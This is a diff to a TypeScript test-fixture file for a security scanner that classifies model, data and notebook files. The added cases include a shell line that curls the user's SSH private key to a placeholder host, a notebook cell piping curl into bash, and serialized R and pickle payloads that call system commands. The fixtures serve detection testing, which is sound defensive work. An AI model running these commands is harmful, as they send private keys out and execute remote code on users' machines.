@@ -1,3 +1,4 @@
+import { gzipSync } from 'node:zlib';
 import type { ScanVerdict } from '../../../src/domain/scan.ts';
 import { type Member, zip } from '../../../src/formats/zip/archive.fixture.ts';
 import type { Json } from '../../../src/kernel/json.ts';
@@ -219,6 +220,7 @@ export const HDF5: readonly Case[] = [
     'a script before the data',
     hdf5({ attributes: { model_config: MODEL_CONFIG }, userBlock: filled('#!/bin/sh\ntrue\n', 512) }),
   ),
+  malicious('both.h5', 'a pickle before the data', hdf5({ userBlock: padded(PICKLED, 512) })),
   unscannable('cut.h5', 'the half of a file', hdf5({ attributes: { model_config: MODEL_CONFIG } }).subarray(0, 120)),
   unscannable('end.h5', 'an end that lies', hdf5({ end: 1_000_000 })),
   unscannable('none.h5', 'no HDF5 at all', Uint8Array.of(1, 2, 3, 4, 5, 6, 7, 8, 0xff)),
@@ -228,6 +230,12 @@ export const HDF5: readonly Case[] = [
     hdf5({ attributes: { model_config: '{"class_name": ' } }),
   ),
 ];
+
+function padded(start: Uint8Array, size: number): Uint8Array {
+  const bytes = new Uint8Array(size);
+  bytes.set(start);
+  return bytes;
+}
 
 function filled(start: string, size: number): Uint8Array {
   const bytes = new Uint8Array(size).fill(0x20);
@@ -329,6 +337,11 @@ export const R: readonly Case[] = [
       ...bytesOf('RDX2\n'),
       ...rds(int(2 + TAGGED), symbol('x'), int(5 + TAGGED), GLOBAL, UNBOUND, call('system'), NIL),
     ]),
+  ),
+  malicious(
+    'squeezed.rds',
+    'the same, compressed as R does',
+    Uint8Array.from(gzipSync(rds(int(5 + TAGGED), GLOBAL, UNBOUND, call('system')))),
   ),
   suspicious('closure.rds', 'a function', rds(int(3 + TAGGED), GLOBAL, NIL, call('predict'))),
   suspicious('system.rds', 'a call that starts programs', rds(call('system'))),
@@ -548,6 +561,23 @@ export const SETTINGS: readonly Case[] = [
     'a notebook that fetches and runs',
     json({ nbformat: 4, cells: [{ cell_type: 'code', source: [`!curl ${NOBODY} | bash`] }] }),
   ),
+  suspicious(
+    'calls.ipynb',
+    'a notebook that starts a program',
+    json({ nbformat: 4, cells: [{ cell_type: 'code', source: 'import os\nos.system("true")' }] }),
+  ),
+  clean(
+    'eval.ipynb',
+    'a method that is called eval',
+    json({
+      nbformat: 4,
+      cells: [
+        { cell_type: 'code', source: 'model.eval()\nre.compile("a")\n' },
+        { cell_type: 'markdown', source: 'eval(x)' },
+      ],
+    }),
+  ),
+  malicious('sends.sh', 'sends a secret away', `curl -s -d @$HOME/.ssh/id_ed25519 ${NOBODY}\n`),
   clean(
     'demo.ipynb',
     'a notebook',
